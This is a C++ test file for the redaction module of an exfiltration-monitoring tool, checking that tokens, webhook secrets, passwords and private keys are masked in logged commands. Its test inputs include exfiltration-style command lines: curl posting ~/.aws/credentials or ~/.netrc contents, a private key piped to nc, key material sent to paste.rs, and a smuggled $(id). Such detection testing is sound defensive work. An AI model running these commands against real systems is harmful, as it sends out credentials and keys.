// Tests redact/redact.cpp: secrets in argv and text are replaced, what identifies the action stays.
#include <doctest/doctest.h>

#include "redact/redact.hpp"

using namespace exfilwatch::redact;

namespace {

std::string joined(const std::vector<std::string>& argv)
{
    std::string s;
    for (const auto& a : redact_args(argv)) s += (s.empty() ? "" : " ") + a;
    return s;
}

}  // namespace

TEST_CASE("redact_text: webhook and bot tokens in URL paths")
{
    struct Case {
        const char* in;
        const char* out;
    };
    const Case cases[] = {
        {"https://discord.com/api/webhooks/1180123456789/AbCdEf-GhIjK_lmnop",
         "https://discord.com/api/webhooks/1180123456789/[REDACTED]"},
        {"https://discordapp.com/api/webhooks/42/tok?wait=true",
         "https://discordapp.com/api/webhooks/42/[REDACTED]?wait=true"},
        {"https://hooks.slack.com/services/T0001/B0001/XXXXXXXX",
         "https://hooks.slack.com/services/T0001/B0001/[REDACTED]"},
        {"https://hooks.slack.com:8443/services/T0001/B0001/XXXXXXXX/",
         "https://hooks.slack.com:8443/services/T0001/B0001/[REDACTED]/"},
        {"https://api.telegram.org/bot123456:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage",
         "https://api.telegram.org/bot[REDACTED]/sendMessage"},
        {"https://user:hunter2@example.com/x", "https://user:[REDACTED]@example.com/x"},
        {"https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/o/r.git",
         "https://[REDACTED]@github.com/o/r.git"},
        {"https://x.io/cb?token=abc123&page=2&api_key=zzz",
         "https://x.io/cb?token=[REDACTED]&page=2&api_key=[REDACTED]"},
        {"https://b.s3.amazonaws.com/k?X-Amz-Signature=deadbeef&X-Amz-Credential=AKIAX",
         "https://b.s3.amazonaws.com/k?X-Amz-Signature=[REDACTED]&X-Amz-Credential=[REDACTED]"},
        {"https://x.io/a?keyboard=1&sig=ff", "https://x.io/a?keyboard=1&sig=[REDACTED]"},
        {"see https://pastebin.com/api and more", "see https://pastebin.com/api and more"},
        {"https://outlook.webhook.office.com/webhookb2/abcdef01-2345/IncomingWebhook/0123456789abcdef/x",
         "https://outlook.webhook.office.com/webhookb2/[REDACTED]/IncomingWebhook/[REDACTED]/x"},
        {"https://x.io/files/Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAB7", "https://x.io/files/[REDACTED]"},
    };
    for (const auto& c : cases) {
        std::string input = c.in;
        CAPTURE(input);
        CHECK(redact_text(c.in) == c.out);
    }
}

TEST_CASE("redact_text: token formats, bearer, env-style and JSON secrets")
{
    struct Case {
        const char* in;
        const char* out;
    };
    const Case cases[] = {
        {"ghp_0123456789abcdefghijABCDEFGHIJ012345", "ghp_[REDACTED]"},
        {"token github_pat_11ABCDEFG0123456789_abcdefghij", "token github_pat_[REDACTED]"},
        {"glpat-xxxxxxxxxxxxxxxxxxxx", "glpat-[REDACTED]"},
        {"xoxb-1234-5678-abcdefgh", "xoxb-[REDACTED]"},
        {"xoxp-1234-5678-abcdefgh rest", "xoxp-[REDACTED] rest"},
        {"AKIAIOSFODNN7EXAMPLE", "AKIA[REDACTED]"},
        {"aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "aws_secret_access_key=[REDACTED]"},
        {"AWS_SECRET_ACCESS_KEY=abc DEBUG=1", "AWS_SECRET_ACCESS_KEY=[REDACTED] DEBUG=1"},
        {"API_TOKEN=s3cr3t ./run.sh", "API_TOKEN=[REDACTED] ./run.sh"},
        {"DB_PASSWORD=pw123", "DB_PASSWORD=[REDACTED]"},
        {"Authorization: Bearer abcdefghijklmnop", "Authorization: [REDACTED]"},
        {"bearer abcdefghijklmnopqrs", "bearer [REDACTED]"},
        {"{\"password\": \"hunter2\", \"user\": \"bob\"}", "{\"password\": \"[REDACTED]\", \"user\": \"bob\"}"},
        {"{\"text\":\"build 1234 passed\"}", "{\"text\":\"build 1234 passed\"}"},
        {"client_secret=abc&grant_type=x", "client_secret=[REDACTED]&grant_type=x"},
        {"plain words, nothing secret", "plain words, nothing secret"},
        {"", ""},
        {"ghp_short", "ghp_short"},
        {"notghp_0123456789abcdefghij", "notghp_0123456789abcdefghij"},
    };
    for (const auto& c : cases) {
        std::string input = c.in;
        CAPTURE(input);
        CHECK(redact_text(c.in) == c.out);
    }
}

TEST_CASE("redact_args: flag context")
{
    CHECK(joined({"curl", "-u", "alice:s3cret", "https://x.io"}) == "curl -u alice:[REDACTED] https://x.io");
    CHECK(joined({"curl", "-ualice:s3cret", "https://x.io"}) == "curl -ualice:[REDACTED] https://x.io");
    CHECK(joined({"curl", "--user", "alice:s3cret"}) == "curl --user alice:[REDACTED]");
    CHECK(joined({"curl", "--user=alice:s3cret"}) == "curl --user=alice:[REDACTED]");
    CHECK(joined({"curl", "-u", "alice"}) == "curl -u alice");
    CHECK(joined({"curl", "-H", "Authorization: Bearer abc.def.ghi", "https://x"}) ==
          "curl -H Authorization: [REDACTED] https://x");
    CHECK(joined({"curl", "-H", "Cookie: sid=1234", "https://x"}) == "curl -H Cookie: [REDACTED] https://x");
    CHECK(joined({"curl", "-H", "X-Api-Key: k-123", "https://x"}) == "curl -H X-Api-Key: [REDACTED] https://x");
    CHECK(joined({"curl", "--header", "PRIVATE-TOKEN: glpat-abcdefghijkl"}) ==
          "curl --header PRIVATE-TOKEN: [REDACTED]");
    CHECK(joined({"curl", "-H", "Content-Type: application/json"}) == "curl -H Content-Type: [REDACTED]");
    CHECK(joined({"curl", "-b", "session=abc"}) == "curl -b [REDACTED]");
    CHECK(joined({"app", "--password=hunter2"}) == "app --password=[REDACTED]");
    CHECK(joined({"app", "--password", "hunter2", "next"}) == "app --password [REDACTED] next");
    CHECK(joined({"app", "--token", "t0k"}) == "app --token [REDACTED]");
    CHECK(joined({"mysql", "-uroot", "-phunter2", "db"}) == "mysql -uroot -p[REDACTED] db");
    CHECK(joined({"mysql", "-u", "root", "-p", "db"}) == "mysql -u root -p db");
    CHECK(joined({"docker", "login", "-u", "bob", "-p", "pw", "registry"}) ==
          "docker login -u bob -p [REDACTED] registry");
    CHECK(joined({"sshpass", "-p", "pw", "ssh", "host"}) == "sshpass -p [REDACTED] ssh host");
    CHECK(joined({"tar", "-p", "x"}) == "tar -p x");
    CHECK(joined({"curl", "-sk", "--data-binary", "@-", "https://hooks.slack.com/services/T1/B2/sekrit"}) ==
          "curl -sk --data-binary @- https://hooks.slack.com/services/T1/B2/[REDACTED]");
    CHECK(joined({"curl", "-d", "token=abc&x=1", "https://x"}) == "curl -d [REDACTED] https://x");
    CHECK(redact_args({}).empty());
    CHECK(joined({"-u"}) == "-u");
    CHECK(joined({"curl", "-u"}) == "curl -u");
}

TEST_CASE("redact_args: an inline request body is payload, a file reference is evidence")
{
    // curl -d "text=$(cat ~/.aws/credentials)": the file's contents are on the command line.
    const std::string body = "text=[default]\naws_access_key_id = AKIAXXXXXXXXXXXXXXXX\nsecret = 1";
    CHECK(joined({"curl", "-d", body, "https://x"}) == "curl -d [REDACTED] https://x");
    CHECK(joined({"curl", "-d" + body}) == "curl -d[REDACTED]");
    CHECK(joined({"curl", "-sd", body}) == "curl -sd [REDACTED]");
    CHECK(joined({"curl", "-skd" + body}) == "curl -skd[REDACTED]");
    CHECK(joined({"curl", "--data", body}) == "curl --data [REDACTED]");
    CHECK(joined({"curl", "--data-binary=" + body}) == "curl --data-binary=[REDACTED]");
    CHECK(joined({"curl", "--json", "{\"a\":1}"}) == "curl --json [REDACTED]");
    CHECK(joined({"curl", "--data-raw", "@not-a-file"}) == "curl --data-raw [REDACTED]");
    CHECK(joined({"curl", "-d", "@/tmp/x", "--data-binary", "@-"}) == "curl -d @/tmp/x --data-binary @-");
    CHECK(joined({"curl", "-F", "file=@/home/a/.netrc", "-F", "note=hello"}) ==
          "curl -F file=@/home/a/.netrc -F note=[REDACTED]");
    CHECK(joined({"curl", "-F", "f=</etc/hosts;type=text/plain"}) == "curl -F f=</etc/hosts;type=text/plain");
    CHECK(joined({"curl", "--form-string", "f=@literal"}) == "curl --form-string f=[REDACTED]");
    CHECK(joined({"curl", "--data-urlencode", "q=hello", "--data-urlencode", "name@file.txt"}) ==
          "curl --data-urlencode q=[REDACTED] --data-urlencode name@file.txt");
    CHECK(joined({"wget", "--post-data=f=machine x login y password z"}) == "wget --post-data=[REDACTED]");
    CHECK(joined({"wget", "--post-data", "abc", "--post-file=/tmp/f"}) ==
          "wget --post-data [REDACTED] --post-file=/tmp/f");
    CHECK(joined({"curl", "-sH", "Authorization: Bearer abcdefgh1234"}) == "curl -sH Authorization: [REDACTED]");
    // A renamed curl is known by its long flags; other tools' -d and -F are not bodies.
    CHECK(joined({"/tmp/.x", "--resolve", "h:1:2", "-d", "secret body"}) == "/tmp/.x --resolve h:1:2 -d [REDACTED]");
    CHECK(joined({"base64", "-d", "file.b64"}) == "base64 -d file.b64");
    CHECK(joined({"tar", "-F", "script"}) == "tar -F script");
    CHECK(redact_option_value("-d", "text=abc") == "[REDACTED]");
    CHECK(redact_option_value("--upload-file", "/tmp/x") == "/tmp/x");
    CHECK(redact_option_value("-F", "file=@/tmp/k") == "file=@/tmp/k");
}

TEST_CASE("redacted_command_line cuts long lines")
{
    std::vector<std::string> argv{"curl"};
    for (int i = 0; i < 100; ++i) argv.push_back("--verbose");
    auto line = redacted_command_line(argv, 40);
    CHECK(line.size() == 43);
    CHECK(line.substr(40) == "...");
    CHECK(redacted_command_line({"curl", "-u", "a:b"}) == "curl -u a:[REDACTED]");
}

TEST_CASE("redaction never leaves a planted secret")
{
    const std::string secret = "Zq9VvT2pLm4Kx7Rw";
    const std::vector<std::vector<std::string>> argvs = {
        {"curl", "-u", "u:" + secret},
        {"curl", "-H", "Authorization: Basic " + secret},
        {"curl", "https://u:" + secret + "@h.io/"},
        {"curl", "https://h.io/?access_token=" + secret},
        {"curl", "https://discord.com/api/webhooks/1/" + secret},
        {"curl", "https://hooks.slack.com/services/T/B/" + secret},
        {"curl", "https://api.telegram.org/bot" + secret + "/sendDocument"},
        {"env", "SECRET_KEY=" + secret, "app"},
        {"app", "--client-secret=" + secret},
        {"git", "push", "https://ghp_" + secret + "@github.com/o/r"},
        {"mysql", "-p" + secret},
        {"curl", "-d", "msg=" + secret, "https://paste.rs/"},
        {"curl", "-sF", "a=" + secret},
        {"wget", "--body-data", secret},
    };
    for (const auto& argv : argvs) {
        CAPTURE(argv.back());
        auto out = redacted_command_line(argv, 4096);
        CHECK(out.find(secret) == std::string::npos);
        CHECK(out.find("[REDACTED]") != std::string::npos);
    }
}

TEST_CASE("redact_text: PEM blocks, long base64 and hex runs, `key = value` with spaces")
{
    struct Case {
        const char* in;
        const char* out;
    };
    const Case cases[] = {
        {"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----\n",
         "-----BEGIN OPENSSH PRIVATE KEY-----[REDACTED]\n"},
        {"k=-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA", "k=-----BEGIN RSA PRIVATE KEY-----[REDACTED]"},  // cut
        {"a -----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE----- b -----BEGIN EC PRIVATE KEY-----\nx\n"
         "-----END EC PRIVATE KEY-----",
         "a -----BEGIN CERTIFICATE-----[REDACTED] b -----BEGIN EC PRIVATE KEY-----[REDACTED]"},
        // `base64 key` (wrapped lines) and `base64 -w0 key`, padding included.
        {"X-Trace: "
         "LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0KYjNCbGJu\nNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAM"
         "wAAAAtzc2gtZW==",
         "X-Trace: [REDACTED]\n[REDACTED]"},
        {"id=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 done", "id=[REDACTED] done"},
        {"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "aws_secret_access_key = [REDACTED]"},
        {"[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key\t=\tabc/def+ghi\nregion = "
         "eu-west-1",
         "[default]\naws_access_key_id = [REDACTED]\naws_secret_access_key\t=\t[REDACTED]\nregion = eu-west-1"},
        // Everyday text that looks a little like it stays.
        {"/usr/lib/x86_64-linux-gnu/libssl.so.3", "/usr/lib/x86_64-linux-gnu/libssl.so.3"},
        {"/home/alice/Projects/Repo2024/src/MainWindow2.cpp", "/home/alice/Projects/Repo2024/src/MainWindow2.cpp"},
        {"123e4567-e89b-12d3-a456-426614174000", "123e4567-e89b-12d3-a456-426614174000"},
        {"--max-old-space-size=4096 --enable-source-maps", "--max-old-space-size=4096 --enable-source-maps"},
        {"count = 3, name = backup-2024-01-01", "count = 3, name = backup-2024-01-01"},
        {"-----BEGIN nothing here", "-----BEGIN nothing here"},
    };
    for (const auto& c : cases) {
        std::string input = c.in;
        CAPTURE(input);
        CHECK(redact_text(c.in) == c.out);
    }
}

TEST_CASE("redact_args: every request header's value and the user agent are redacted, whatever the name")
{
    const std::string b64 = "LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0KYjNCbGJu";
    const std::string pem = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----";
    CHECK(joined({"curl", "-H", "X-Trace: " + b64, "https://paste.rs/"}) ==
          "curl -H X-Trace: [REDACTED] https://paste.rs/");
    CHECK(joined({"curl", "-H", "X-Note: hello", "-H", "Accept: */*"}) ==
          "curl -H X-Note: [REDACTED] -H Accept: [REDACTED]");
    CHECK(joined({"curl", "-sH", "X-Id:" + b64}) == "curl -sH X-Id:[REDACTED]");
    CHECK(joined({"curl", "-HX-Id: v"}) == "curl -HX-Id: [REDACTED]");
    CHECK(joined({"curl", "--header", "X-A: 1", "--header=X-B: 2"}) ==
          "curl --header X-A: [REDACTED] --header=X-B: [REDACTED]");
    CHECK(joined({"curl", "-H", pem}) == "curl -H [REDACTED]");  // not a header at all: all of it
    CHECK(joined({"curl", "-H", "hunter2hunter2"}) == "curl -H [REDACTED]");
    CHECK(joined({"curl", "-H", "@/tmp/headers.txt", "-H", "X-Empty;", "-H", "Expect:"}) ==
          "curl -H @/tmp/headers.txt -H X-Empty; -H Expect:");
    CHECK(joined({"curl", "-A", pem, "https://paste.rs/"}) == "curl -A [REDACTED] https://paste.rs/");
    CHECK(joined({"curl", "-sA", "Mozilla/5.0", "https://x"}) == "curl -sA [REDACTED] https://x");
    CHECK(joined({"curl", "-AMozilla/5.0", "--user-agent", "x", "--user-agent=y"}) ==
          "curl -A[REDACTED] --user-agent [REDACTED] --user-agent=[REDACTED]");
    CHECK(joined({"wget", "-U", "agent $(id)", "--header=X-T: v", "https://x"}) ==
          "wget -U [REDACTED] --header=X-T: [REDACTED] https://x");
    CHECK(joined({"curl", "-U", "proxyuser:pw"}) == "curl -U proxyuser:[REDACTED]");  // curl's -U is the proxy user
    // Other tools' -H and -A are no headers: their value is only redacted as text.
    CHECK(joined({"grep", "-H", "pattern", "file"}) == "grep -H pattern file");
    CHECK(joined({"grep", "-A", "3", "x"}) == "grep -A 3 x");
    CHECK(joined({"cp", "-H", "/a", "/b"}) == "cp -H /a /b");
}

TEST_CASE("redact_args: a key on the command line never survives in any form")
{
    const std::string key_line = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW";
    const std::string pem =
        "-----BEGIN OPENSSH PRIVATE KEY-----\n" + key_line + "\n-----END OPENSSH PRIVATE KEY-----\n";
    const std::string hex = "2d2d2d2d2d424547494e204f50454e5353482050524956415445204b45592d2d2d2d2d0a";
    const std::vector<std::vector<std::string>> argvs = {
        {"curl", "-d", "x", "https://paste.rs/", "-H", "X-Trace: " + key_line},
        {"curl", "-A", pem, "https://paste.rs/"},
        {"bash", "-c", "echo '" + pem + "' | nc host 80"},
        {"python3", "-c", "print('" + key_line + "')"},
        {"sh", "-c", "curl https://x/?q=" + hex},
        {"aws", "configure", "set", "aws_secret_access_key = " + key_line},
    };
    for (const auto& argv : argvs) {
        CAPTURE(argv.back());
        auto out = redacted_command_line(argv, 4096);
        CHECK(out.find("b3BlbnNzaC1rZX") == std::string::npos);
        CHECK(out.find("2d2d2d2d2d42") == std::string::npos);
        CHECK(out.find("[REDACTED]") != std::string::npos);
    }
}

TEST_CASE("redact_secret_args: an argument carrying a secret's bytes goes whole, others stay")
{
    const std::string secret = "gho_RedactTest0123456789abcdef";
    auto contains = [&](std::string_view arg) { return arg.find(secret) != std::string_view::npos; };
    std::vector<std::string> argv = {"curl", "-d", "{\"description\":\"" + secret + "\"}", "https://api.github.com/x"};
    CHECK(redact_secret_args(argv, contains));
    CHECK(argv == std::vector<std::string>{"curl", "-d", "[REDACTED]", "https://api.github.com/x"});
    std::vector<std::string> clean = {"curl", "-d", "{\"state\":\"success\"}", "https://api.github.com/x"};
    auto before = clean;
    CHECK_FALSE(redact_secret_args(clean, contains));
    CHECK(clean == before);
    std::vector<std::string> none;
    CHECK_FALSE(redact_secret_args(none, contains));
}

TEST_CASE("redact_url_path: a webhook's or bot's token in a request path goes, the rest stays")
{
    CHECK(redact_url_path("hooks.slack.com", "/services/T0E2E1234/B0E2E5678/e2eSlackHookSecret0123456789") ==
          "/services/T0E2E1234/B0E2E5678/[REDACTED]");
    CHECK(redact_url_path("Discord.com:443", "/api/webhooks/112233445566778899/e2eDiscordHookToken0123") ==
          "/api/webhooks/112233445566778899/[REDACTED]");
    CHECK(redact_url_path("api.telegram.org", "/bot123456789:AAE2eTelegramBotToken0123456789abcd/sendMessage") ==
          "/bot[REDACTED]/sendMessage");
    CHECK(redact_url_path("example.org", "/u/Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb7") == "/u/[REDACTED]");
    CHECK(redact_url_path("api.github.com", "/repos/o/r/statuses/0123abcd") == "/repos/o/r/statuses/0123abcd");
    CHECK(redact_url_path("example.org", "*") == "*");
    CHECK(redact_url_path("", "") == "");
}

TEST_CASE("redact_secret_path: a path segment carrying a secret's bytes goes, the others stay")
{
    const std::string secret = "e2eApiToken0123456789abcdefABCDEF";
    auto contains = [&](std::string_view s) { return s.find(secret) != std::string_view::npos; };
    std::string path = "/hooks/" + secret + "/send";
    CHECK(redact_secret_path(path, contains));
    CHECK(path == "/hooks/[REDACTED]/send");
    std::string split = "/a" + secret.substr(0, 10) + "/" + secret.substr(10);  // no segment holds it whole
    auto spans = [&](std::string_view s) { return s == split; };
    CHECK(redact_secret_path(split, spans));
    CHECK(split == "/[REDACTED]");
    std::string clean = "/repos/o/r/statuses/0123abcd";
    CHECK_FALSE(redact_secret_path(clean, contains));
    CHECK(clean == "/repos/o/r/statuses/0123abcd");
}

TEST_CASE("redact_secret_domain: a label carrying a secret's bytes goes, the site stays")
{
    const std::string secret = "q7mw2xp9vk4tr8nb3yl5";
    auto contains = [&](std::string_view s) { return s.find(secret) != std::string_view::npos; };
    std::string name = secret + ".paste.rs";
    CHECK(redact_secret_domain(name, contains));
    CHECK(name == "[REDACTED].paste.rs");
    std::string spanning = secret.substr(0, 10) + "." + secret.substr(10) + ".example.org";
    auto spans = [&](std::string_view s) { return s == spanning; };
    CHECK(redact_secret_domain(spanning, spans));
    CHECK(spanning == "[REDACTED]");
    std::string clean = "api.github.com";
    CHECK_FALSE(redact_secret_domain(clean, contains));
    CHECK(clean == "api.github.com");
}
